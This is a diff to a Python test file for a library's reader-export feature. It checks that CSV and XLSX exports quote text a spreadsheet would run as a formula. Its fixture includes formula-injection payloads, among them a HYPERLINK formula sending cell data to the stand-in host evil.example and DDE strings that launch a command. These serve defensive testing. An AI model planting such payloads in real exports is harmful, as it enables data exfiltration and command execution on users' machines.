@@ -92,8 +92,9 @@ def test_export_columns_and_values(api, branch):
     reader = Reader.objects.get(last_name="Ахметова1")
     assert first["card_number"] == reader.card_number
     assert first["branch"] == branch.code
+    # A leading "+" is a formula to a spreadsheet: phones are written quoted.
     assert (first["phone1"], first["phone2"], first["phone2_kind"], first["phone2_sms"]) == (
-        "+77010000001", "+77152123456", "home", "no")
+        "'+77010000001", "'+77152123456", "home", "no")
     assert first["availability"] == "Tu 10:00-13:00; Th 14:00-17:00"
     assert first["preferred_authors"] == "Абай; Толстой"
     assert first["document_valid_until"] == "2027-12-31"
@@ -119,7 +120,7 @@ def test_more_phones_get_more_columns_and_import_back(api, branch):
         ReaderPhoneFactory(reader=reader, number=f"+7701000000{n}", position=n)
     content = download(api.as_role("librarian"), EXPORT, format="xlsx")
     rows = parse_xlsx(content)
-    assert rows[0]["phone4"] == "+77010000003"
+    assert rows[0]["phone4"] == "'+77010000003"
     Reader.objects.all().delete()
     report = import_readers(content=content, filename="e.xlsx")
     assert report.ok, report.errors
@@ -179,3 +180,77 @@ def test_unknown_format_is_a_field_error(api):
     assert response.status_code == 400
     assert response.json()["code"] == "validation_error"
     assert "format" in response.json()["fields"]
+
+
+# Formula injection: text that a spreadsheet would run is written as text ----------------------
+
+FORMULAS = {
+    "last_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "first_name": "=cmd|' /C calc'!A0",
+    "patronymic": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "street": "+1+1",
+    "house": "-2+3",
+    "door_code": "=1+1",
+    "landmark": "@A1",
+    "access_notes": "-1+cmd|' /C calc'!A0",
+    "caregiver_name": "=2+5",
+    "document_number": "+7-МСЭ",
+}
+
+
+def _cell_rows(content: bytes, kind: str) -> list[dict]:
+    """Each exported row as {column: (value, XLSX data type or None for CSV)}."""
+    if kind == "csv":
+        return [{k: (v, None) for k, v in row.items()} for row in parse_csv(content)]
+    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
+    rows = list(sheet.iter_rows())
+    header = [c.value for c in rows[0]]
+    return [{h: (c.value, c.data_type) for h, c in zip(header, row, strict=False)}
+            for row in rows[1:]]
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_text_a_spreadsheet_would_run_is_exported_as_text(api, branch, kind):
+    reader = ReaderFactory(branch=branch, floor=-2, caregiver_relation="\t=1+1",
+                           apartment="\r=1+1", **FORMULAS)
+    ReaderPhoneFactory(reader=reader, number="+77011234567", position=0)
+
+    content = download(api.as_role("librarian"), EXPORT, format=kind)
+
+    [row] = _cell_rows(content, kind)
+    texts = {**FORMULAS, "phone1": "+77011234567", "caregiver_relation": "\t=1+1",
+             "apartment": "\r=1+1"}
+    for column, text in texts.items():
+        value, data_type = row[column]
+        assert value.startswith("'"), column
+        if kind == "xlsx":
+            assert data_type == "s", column  # a string cell, never a formula ("f")
+            text = text.replace("\r", "\n")  # XML reads a carriage return as a line feed
+        assert value == "'" + text, column
+    # A number is not text: a floor below ground stays the number -2, unquoted.
+    assert row["floor"] == ((-2, "n") if kind == "xlsx" else ("-2", None))
+    assert row["last_name"][0] != reader.last_name
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_formula_like_text_survives_export_and_import_unchanged(api, branch, kind):
+    cells = reader_cells(branch.code, 1, preferred_authors="=Абай; -Толстой",
+                         never_send="@Война и мир", **FORMULAS)
+    report = import_readers(content=csv_bytes([cells]), filename="a.csv")
+    assert report.ok, report.errors
+    client = api.as_role("librarian")
+
+    first = download(client, EXPORT, format=kind)
+    Reader.objects.all().delete()
+    report = import_readers(content=first, filename=f"export.{kind}")
+    assert report.ok, report.errors
+    second = download(client, EXPORT, format=kind)
+
+    reader = Reader.objects.get()
+    assert {column: getattr(reader, column) for column in FORMULAS} == FORMULAS
+    assert str(reader.phones.get().number) == "+77010000001"
+    assert reader.preferences["authors"] == ["=Абай", "-Толстой"]
+    assert reader.preferences["never_send"] == ["@Война и мир"]
+    parse = parse_csv if kind == "csv" else parse_xlsx
+    assert parse(first)[0]["last_name"] == "'" + FORMULAS["last_name"]
+    assert without_card_number(parse(second)) == without_card_number(parse(first))
